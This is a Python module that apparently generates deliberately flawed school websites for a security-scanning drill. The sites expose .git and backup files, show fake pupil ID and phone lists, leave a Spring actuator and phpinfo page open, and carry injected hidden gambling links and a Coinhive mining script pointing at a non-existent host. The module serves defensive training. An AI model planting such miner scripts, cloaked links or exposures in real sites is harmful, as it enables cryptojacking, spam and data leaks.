"""Web sites of the practice school with something wrong on them: a school's name in, pages and their flaws out."""

from __future__ import annotations

import io
import json
import zipfile

from sentinel.drill.servers.conversation import Seen, Service
from sentinel.drill.servers.sites import ICP
from sentinel.drill.servers.web import HTML, Page, Site, html, web

_PLAIN = "text/plain; charset=utf-8"
_FILE_TIME = (2026, 1, 5, 8, 0, 0)


def _nginx(port: int, version: str, pages: dict[str, Page], flaws: tuple[str, ...]) -> Service:
    return web(port, Site(f"nginx/{version}", pages), Seen("http", "nginx", version), flaws=flaws)


def _home(school: str, title: str, inside: str = "", head: str = "") -> Page:
    footer = f'<footer><p>版权所有 {school}</p><p><a href="https://beian.example/">{ICP}</a></p></footer>'
    return Page(html(f"{school} {title}", f"<h1>{school} {title}</h1>\n{inside}\n{footer}", head))


def _backup() -> bytes:
    """Pack a site as an administrator does before an update."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in (("wwwroot/index.html", "<h1>旧首页</h1>\n"), ("wwwroot/readme.txt", "练习用备份。\n")):
            archive.writestr(zipfile.ZipInfo(name, _FILE_TIME), text.encode())
    return packed.getvalue()


def leaking_site(port: int, school: str, version: str) -> Service:
    """Build a site put up with `git clone`: its repository and two backups can be fetched."""
    config = '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://git.example/site.git\n'
    dump = "-- MySQL dump 10.13\nCREATE TABLE `notice` (`id` int, `title` varchar(80));\n"
    pages = {
        "/": _home(school, "校友网"),
        "/.git/HEAD": Page(b"ref: refs/heads/master\n", "application/octet-stream"),
        "/.git/config": Page(config.encode(), "application/octet-stream"),
        "/wwwroot.zip": Page(_backup(), "application/zip"),
        "/backup.sql": Page(dump.encode(), "application/octet-stream"),
    }
    return _nginx(port, version, pages, ("web.git-exposed", "web.backup-exposed"))


# Names of real services stand in front of a domain that can never exist (RFC 2606 section 2).
_MINER_HOST = "coinhive.com.practice.invalid"


def tampered_site(port: int, school: str, version: str) -> Service:
    """Build a portal somebody broke into: links only search engines see, and a script that mines in the browser."""
    hidden = (
        '<div style="position:absolute;left:-9999px;top:-9999px">'
        '<a href="https://slots.example/">在线博彩</a> <a href="https://lottery.example/">时时彩开户</a></div>\n'
        '<div style="display:none"><a href="https://casino.practice.invalid/">真人娱乐城 棋牌下注</a></div>'
    )
    miner = (
        f'<script src="https://{_MINER_HOST}/lib/coinhive.min.js"></script>\n'
        "<script>var miner = new CoinHive.Anonymous('PRACTICE-SITE-KEY', {throttle: 0.3}); miner.start();</script>\n"
    )
    pages = {"/": _home(school, "招生网", f"<ul><li>招生简章</li><li>录取查询</li></ul>\n{hidden}", miner)}
    return _nginx(port, version, pages, ("web.dark-link", "web.mining-script"))


_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_CHECKS = "10X98765432"


def identity_number(order: int) -> str:
    """Invent an identity-card number with a right check digit and a county code no county ever had.

    Source: GB 11643-1999; county 99 of a city is not given out by GB/T 2260.
    """
    body = f"110199{2008 + order % 4}{1 + order % 12:02}{1 + order % 28:02}{order % 1000:03}"
    total = sum(int(digit) * weight for digit, weight in zip(body, _WEIGHTS, strict=True))
    return body + _CHECKS[total % 11]


def register_page(port: int, school: str, version: str) -> Service:
    """Build a page that lists pupils with identity-card and telephone numbers for all to see."""
    rows = "\n".join(
        # 154 is a prefix no carrier has.
        f"<tr><td>示例学生{order}</td><td>{identity_number(order)}</td><td>1540000{order:04}</td></tr>"
        for order in range(101, 121)
    )
    table = f"<table>\n<tr><th>姓名</th><th>身份证号</th><th>联系电话</th></tr>\n{rows}\n</table>"
    pages = {"/": _home(school, "新生名单公示", table)}
    return _nginx(port, version, pages, ("web.personal-data",))


def actuator_site(port: int, school: str, version: str) -> Service:
    """Build a Java system that shows its insides: `/actuator` with health, environment and mappings."""
    links = {name: {"href": f"/actuator/{name}", "templated": False} for name in ("health", "env", "mappings")}
    kind = "application/vnd.spring-boot.actuator.v3+json"
    inside = {
        "/actuator": {"_links": links},
        "/actuator/health": {"status": "UP"},
        "/actuator/env": {"activeProfiles": ["prod"], "propertySources": []},
        "/actuator/mappings": {"contexts": {}},
    }
    pages = {"/": _home(school, "选课系统")}
    pages |= {path: Page(json.dumps(value).encode(), kind) for path, value in inside.items()}
    return _nginx(port, version, pages, ("web.actuator-exposed",))


PHP = "5.4.16"


def php_server(pages: dict[str, Page]) -> Site:
    """Put pages on the Apache and PHP of an old distribution."""
    return Site(f"Apache/2.4.6 (CentOS) PHP/{PHP}", pages)


def phpinfo_site(port: int, school: str) -> Service:
    """Build a site on an old PHP with a forgotten test page."""
    rows = (
        "<tr><td>System</td><td>Linux practice 3.10.0 x86_64</td></tr>\n<tr><td>Server API</td><td>Apache 2.0</td></tr>"
    )
    body = f"<h1>PHP Version {PHP}</h1>\n<table>\n{rows}\n</table>"
    powered = (("X-Powered-By", f"PHP/{PHP}"),)
    pages = {
        "/": Page(html(f"{school} 活动报名", "<h1>活动报名</h1>"), headers=powered),
        "/phpinfo.php": Page(html("phpinfo()", body), HTML, headers=powered),
    }
    seen = Seen("http", "Apache httpd", "2.4.6")
    return web(port, php_server(pages), seen, ("exposure.eol-php",), flaws=("web.phpinfo",))
